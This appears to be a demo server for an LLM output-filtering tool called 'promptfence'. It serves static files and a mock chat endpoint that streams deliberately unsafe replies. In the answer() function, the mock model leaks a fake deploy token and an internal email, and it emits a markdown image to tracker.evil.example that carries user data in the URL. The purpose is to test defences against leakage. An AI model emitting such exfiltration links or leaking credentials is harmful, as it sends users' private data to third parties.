#!/usr/bin/env node
// Demo server: serves www/ and the built package (/pkg/) on 127.0.0.1 and a
// mock LLM at POST /api/chat that streams Server-Sent Events. No deps, no
// network, no keys. Usage: PORT=8080 node www/server.mjs
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { fileURLToPath } from "node:url";

const WWW = path.dirname(fileURLToPath(import.meta.url));
const ROOT = path.resolve(WWW, "..");
const PORT = Number(process.env.PORT || 8080);
const HOST = process.env.HOST || "127.0.0.1";
const DELAY = Number(process.env.MOCK_DELAY_MS ?? 25);

const TYPES = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".mjs": "text/javascript; charset=utf-8",
  ".css": "text/css; charset=utf-8",
  ".json": "application/json",
  ".wasm": "application/wasm",
  ".svg": "image/svg+xml",
  ".png": "image/png",
  ".ts": "text/plain; charset=utf-8",
};

/** Maps a URL path to a file under www/ or pkg/, refusing traversal. */
function resolveFile(urlPath) {
  let rel = decodeURIComponent(urlPath);
  let base = WWW;
  if (rel.startsWith("/pkg/")) {
    base = path.join(ROOT, "pkg");
    rel = rel.slice(4);
  }
  if (rel.endsWith("/")) rel += "index.html";
  const file = path.resolve(base, "." + rel);
  if (file !== base && !file.startsWith(base + path.sep)) return null;
  if (file.endsWith("server.mjs")) return null;
  return file;
}

// A fake but well-formed GitHub token the "model" leaks (built at runtime so
// secret scanners reading this file do not trip on it).
const LEAKED_TOKEN = ["ghp", "_", "R7q2Vx9LmT4pWz8KcN3bY6hJ1dF5sG0aQe2U"].join("");

/** The mock model's answer: echoes pseudonym tokens, leaks an email and a
 * token, and tries to exfiltrate via a markdown image. */
function answer(prompt) {
  const tokens = [...new Set(prompt.match(/\[[A-Z][A-Z0-9_]*_\d+\]/g) ?? [])];
  const parts = [];
  if (tokens.length) {
    parts.push(`Got it. I'll keep ${tokens.join(", ")} in mind and reply to ${tokens[0]} directly.`);
  } else {
    parts.push("Sure, happy to help with that.");
  }
  parts.push(
    "\n\nFor reference, my internal admin contact is ops.admin@corp-internal.example " +
      `and the deploy token is ${LEAKED_TOKEN} (oops).`,
  );
  const q = encodeURIComponent(tokens[0] ?? "hello");
  parts.push(`\n\n![status](https://tracker.evil.example/pixel.png?d=${q})`);
  parts.push("\n\nAnything else?");
  return parts.join("");
}

/** Splits text into small uneven chunks, like a token stream. */
function chunks(text) {
  const out = [];
  let i = 0;
  let n = 0;
  while (i < text.length) {
    const size = 2 + ((n++ * 7) % 9);
    let end = Math.min(text.length, i + size);
    // Never split a surrogate pair.
    if (end < text.length && /[\uD800-\uDBFF]/.test(text[end - 1])) end++;
    out.push(text.slice(i, end));
    i = end;
  }
  return out;
}

async function chat(req, res) {
  let body = "";
  for await (const c of req) {
    body += c;
    if (body.length > 1 << 20) return send(res, 413, "too large");
  }
  let prompt = "";
  try {
    prompt = String(JSON.parse(body).prompt ?? "");
  } catch {
    return send(res, 400, "expected JSON {prompt}");
  }
  res.writeHead(200, {
    "content-type": "text/event-stream; charset=utf-8",
    "cache-control": "no-store",
    connection: "keep-alive",
  });
  let closed = false;
  req.on("close", () => { closed = true; });
  for (const c of chunks(answer(prompt))) {
    if (closed) return;
    res.write(`data: ${JSON.stringify({ delta: c })}\n\n`);
    if (DELAY) await new Promise((r) => setTimeout(r, DELAY));
  }
  res.end("data: [DONE]\n\n");
}

function send(res, status, text) {
  res.writeHead(status, { "content-type": "text/plain; charset=utf-8" });
  res.end(text);
}

const server = http.createServer((req, res) => {
  const url = new URL(req.url, "http://localhost");
  if (url.pathname === "/api/chat" && req.method === "POST") {
    chat(req, res).catch((e) => { if (!res.headersSent) send(res, 500, String(e)); else res.end(); });
    return;
  }
  if (req.method !== "GET" && req.method !== "HEAD") return send(res, 405, "method not allowed");
  const file = resolveFile(url.pathname);
  if (!file) return send(res, 403, "forbidden");
  fs.stat(file, (err, st) => {
    if (err || !st.isFile()) return send(res, 404, "not found");
    res.writeHead(200, {
      "content-type": TYPES[path.extname(file)] ?? "application/octet-stream",
      "content-length": st.size,
      "cache-control": "no-cache",
    });
    if (req.method === "HEAD") return res.end();
    fs.createReadStream(file).pipe(res);
  });
});

server.listen(PORT, HOST, () => {
  const { port } = server.address();
  console.log(`promptfence demo: http://${HOST}:${port}/`);
});

for (const sig of ["SIGINT", "SIGTERM"]) {
  process.on(sig, () => server.close(() => process.exit(0)) && setTimeout(() => process.exit(0), 500).unref());
}
